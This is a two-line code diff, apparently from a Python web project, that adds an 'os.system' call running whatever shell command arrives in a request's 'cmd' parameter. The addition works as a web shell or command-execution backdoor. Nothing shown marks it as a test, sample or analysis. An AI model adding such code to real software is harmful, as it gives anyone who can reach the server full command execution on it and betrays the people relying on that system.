@@ -1,0 +1,2 @@
+import os
+os.system(request.args.get("cmd"))
